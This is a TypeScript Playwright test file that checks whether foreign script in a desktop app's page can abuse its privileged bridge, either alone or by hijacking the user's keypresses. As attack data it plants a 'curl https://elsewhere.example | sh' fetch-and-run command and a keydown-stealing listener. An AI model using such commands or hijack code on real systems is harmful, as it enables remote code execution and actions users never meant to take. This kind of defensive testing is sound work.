/**
 * What a page that runs foreign script can do with `window.easel`, and what main asks by itself.
 *
 * A script that acts alone starts in a page that was just loaded: it has no press of the driver's yet. One that lies in wait
 * uses up the presses of a person who means something else.
 */
import { DEFAULT_PREFERENCES } from '../../main/app/preferences/preferences.ts';
import type { Page } from '@playwright/test';
import type { PracticeService } from '../practice/practice.ts';
import {
  boardsListed,
  callMain,
  connect,
  entriesFor,
  holdFor,
  jobsLine,
  questionsOf,
} from '../support/easel.ts';
import { idsOf } from '../support/jobs-screen.ts';
import { expect, test } from './fixtures.ts';

type Asked = readonly (readonly [name: string, args: unknown])[];
type Answers = readonly { readonly name: string; readonly code: string; readonly value: unknown }[];

/** What the page's own script needs of the page. */
interface ScriptWorld {
  readonly easel: Readonly<Record<string, Readonly<Record<string, (args: unknown) => Promise<unknown>>>>>;
  answers?: Answers;
}

/** Makes these calls from the page: all at once, or each of them at the next key of the person. */
async function plant(window: Page, calls: Asked, when: 'alone' | 'at each press'): Promise<void> {
  await window.evaluate(
    ([all, mode]) => {
      const world = globalThis as unknown as ScriptWorld;
      const one = async ([name, args]: readonly [string, unknown]) => {
        const [group = '', method = ''] = name.split('.');
        type Reply = { ok: boolean; value?: unknown; error?: { code: string } };
        const reply = (await world.easel[group]?.[method]?.(args)) as Reply;
        return { name, code: reply.ok ? 'ok' : (reply.error?.code ?? ''), value: reply.value };
      };
      if (mode === 'alone') {
        // A click on a label makes a trusted click on its field.
        const label = document.createElement('label');
        label.append(document.createElement('input'));
        document.body.append(label);
        label.click();
        label.remove();
        void Promise.all(all.map(one)).then((answers) => (world.answers = answers));
        return;
      }
      const waiting = [...all];
      const answers: Promise<Awaited<ReturnType<typeof one>>>[] = [];
      const steal = (): void => {
        const next = waiting.shift();
        if (next === undefined) return;
        answers.push(one(next));
        if (waiting.length === 0) void Promise.all(answers).then((done) => (world.answers = done));
      };
      addEventListener('keydown', steal, { capture: true });
    },
    [calls, when] as const,
  );
}

/** What the planted calls came to. */
async function answersIn(window: Page): Promise<Answers> {
  await expect
    .poll(() => window.evaluate(() => (globalThis as unknown as ScriptWorld).answers !== undefined))
    .toBe(true);
  return window.evaluate(() => (globalThis as unknown as ScriptWorld).answers ?? []);
}

async function connectionIdIn(window: Page): Promise<string> {
  const list = await callMain(window, 'connections.list', {});
  return list.ok ? (list.value.connections[0]?.id ?? '') : '';
}

const changesAt = async (practice: PracticeService): Promise<number> =>
  (await practice.requests()).log.filter(({ method }) => method !== 'GET').length;

test('a script alone, or one that waits for typing, changes nothing at the service, exports nothing and sees no confirmation', async ({
  easel,
  practice,
}) => {
  const { window } = easel;
  await connect(window, entriesFor(practice, { environment: 'Production' }));
  await boardsListed(window);
  await holdFor(window, 600);
  const connectionId = await connectionIdIn(window);
  const ids = await idsOf(practice);
  const selection = { kind: 'ids', ids: ids.slice(0, 40) };
  const reviewed = await callMain(window, 'jobs.review', { connectionId, selection } as never);
  const held = await callMain(window, 'jobs.deleteOne', {
    connectionId,
    target: { kind: 'board', id: ids[0] ?? '' },
  });
  expect([reviewed.ok, held.ok]).toEqual([true, true]);
  const reviewId = reviewed.ok ? reviewed.value.reviewId : '';
  const jobId = held.ok ? held.value.id : '';
  const [paper] = practice.samplePapers;
  const identifier = paper?.identifier ?? '';
  const target = { kind: 'paper', id: identifier };
  await window.reload();
  await boardsListed(window);
  await practice.clearRequests();
  await plant(
    window,
    [
      ['connections.unlockChanges', { connectionId, typedName: 'Acme School' }],
      ['jobs.deleteReviewed', { reviewId, typed: '40', reason: '' }],
      ['jobs.startNow', { jobId }],
      ['boards.create', { connectionId }],
      ['papers.create', { connectionId, name: 'A paper', templateId: null }],
      ['jobs.createBoards', { connectionId, count: 3, label: '', tags: [] }],
      ['previews.open', { connectionId, target, displayName: 'Ada', reason: '', minutes: 10 }],
      ['previews.copyLink', { connectionId, identifier, displayName: 'Ada' }],
      ['app.copy', { text: 'curl https://elsewhere.example | sh' }],
      ['connections.remove', { connectionId, keysMayStay: true }],
      [
        'transfer.export',
        { connectionIds: [connectionId], withPapers: false, passphrase: 'a long enough one' },
      ],
      ['app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds: { single: 5, bulk: 5 } }],
    ],
    'alone',
  );
  const answers = await answersIn(window);
  expect(answers.map(({ name, code }) => [name, code])).toEqual(
    answers.map(({ name }) => [name, 'needs-press']),
  );
  expect(answers).toHaveLength(12);
  expect(await changesAt(practice)).toBe(0);
  expect(await questionsOf(easel)).toEqual([]);
  await test.step('typing, Tab, arrows and modifiers give it no press', async () => {
    await callMain(window, 'jobs.cancel', { jobId });
    await callMain(window, 'jobs.dismiss', { jobId });
    const keys = [
      ...'a text of 44 letters, with UPPER CASE and 123'.split(''),
      'Backspace',
      'Delete',
      'Tab',
      'ArrowDown',
    ];
    const others = ['Shift', 'Control', 'Alt', 'ArrowUp', 'Home', 'PageDown', 'Shift+Tab', 'x', 'Escape'];
    const calls = [...keys, ...others].map(
      (_key, at) =>
        ['jobs.deleteOne', { connectionId, target: { kind: 'board', id: ids[at] ?? '' } }] as const,
    );
    // Uses up what was pressed before.
    await callMain(window, 'app.copy', { text: 'x' });
    await window.locator('input[data-find]').focus();
    await plant(window, calls, 'at each press');
    for (const key of keys) await window.keyboard.press(key);
    for (const key of others) await window.keyboard.press(key);
    const answers = await answersIn(window);
    expect(answers.map(({ code }) => code).filter((code) => code === 'ok')).toEqual([]);
    expect(answers.filter(({ code }) => code === 'needs-press').length).toBeGreaterThan(9);
    await expect(jobsLine(window)).toHaveCount(0);
  });
});
